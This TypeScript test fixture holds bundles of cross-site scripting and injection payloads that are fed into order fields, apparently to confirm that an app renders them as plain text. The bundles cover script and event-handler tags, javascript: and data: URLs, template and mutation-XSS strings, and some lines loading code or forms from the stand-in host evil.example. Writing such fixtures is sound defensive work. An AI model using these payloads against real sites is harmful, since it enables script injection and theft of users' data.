/** Texts that must stay text: treated as more, each sets `__ran`, leaves an element or an attribute, or calls evil.example. */
const scripts = [
  '<script data-hostile>__ran=1</script>',
  '<img data-hostile src=x onerror=__ran=1>',
  '<svg data-hostile onload=__ran=1>',
  '<svg><script data-hostile>__ran=1</script></svg>',
  '"><script src=//evil.example/x.js></script>',
  '<details data-hostile open ontoggle=__ran=1>',
  '</title></textarea></script><img src=x onerror=__ran=1>',
  '<body onload=__ran=1><b data-hostile>',
]

const attributes = [
  '" onmouseover="__ran=1" data-hostile="',
  "' autofocus onfocus='__ran=1' data-hostile='",
  'x` onclick=__ran=1 ',
  '" style="position:fixed;inset:0;background:red',
  '<a data-hostile href=javascript:__ran=1>Track</a>',
  '<form data-hostile action=//evil.example><button>',
  '<b data-hostile style=position:fixed;inset:0>',
  '<input data-hostile autofocus onfocus=__ran=1>',
]

const addresses = [
  'javascript:__ran=1',
  'JaVaScRiPt&#58;__ran=1',
  'java\tscript:__ran=1',
  'data:text/html,<script>parent.__ran=1</script>',
  'data:image/svg+xml,<svg onload=__ran=1>',
  'vbscript:msgbox(1)',
  '<iframe src=javascript:parent.__ran=1>',
  '<object data=javascript:__ran=1>',
  '//evil.example/x',
]

const disguises = [
  "{{constructor.constructor('__ran=1')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the payload
  '${__ran=1} #{__ran=1} <%= __ran=1 %>',
  '<math><mtext><style><!--</style><img title="--><img src=x onerror=__ran=1>">',
  '<noscript><p title="</noscript><img src=x onerror=__ran=1>">',
  "<style>@import'//evil.example/a.css'</style>",
  '<base href=//evil.example/><meta http-equiv=refresh content=0>',
  '\\u003cimg src=x onerror=__ran=1\\u003e',
  '%3Cimg src=x onerror=__ran=1%3E &lt;img onerror=__ran=1&gt;',
]

const shapes = [
  'W'.repeat(96),
  '\u202Egpj.eciovni\u202C',
  'a\u200Bb\u200C\u200D\uFEFFc\u2060',
  `Z${'\u0338\u0353'.repeat(20)}`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}',
  'one\u2028two\u2029three\r\nfour',
  '\u0627\u0644\u0639\u0631\u0628\u064A\u0629',
  'https://example.com/'.concat('x'.repeat(76)),
]

/** Hostile text for every field of an order that a customer or a provider may fill. */
export interface Bundle {
  readonly name: string
  readonly payloads: readonly string[]
}

export const bundles: readonly Bundle[] = [
  { name: 'scripts', payloads: scripts },
  { name: 'attributes', payloads: attributes },
  { name: 'addresses', payloads: addresses },
  { name: 'disguises', payloads: disguises },
  { name: 'shapes', payloads: shapes },
]

/** A mark by which a field's text is found on a screen. */
export const markOf = (bundle: Bundle, field: string) => `${field}~${bundle.name}`

/** Every payload of a bundle behind the field's mark. */
export const textOf = (bundle: Bundle, field: string) => [markOf(bundle, field), ...bundle.payloads].join(' ')

/** A field's text, cut to the API's limit for a name. */
export const nameOf = (bundle: Bundle, field: string) => textOf(bundle, field).slice(0, 290)
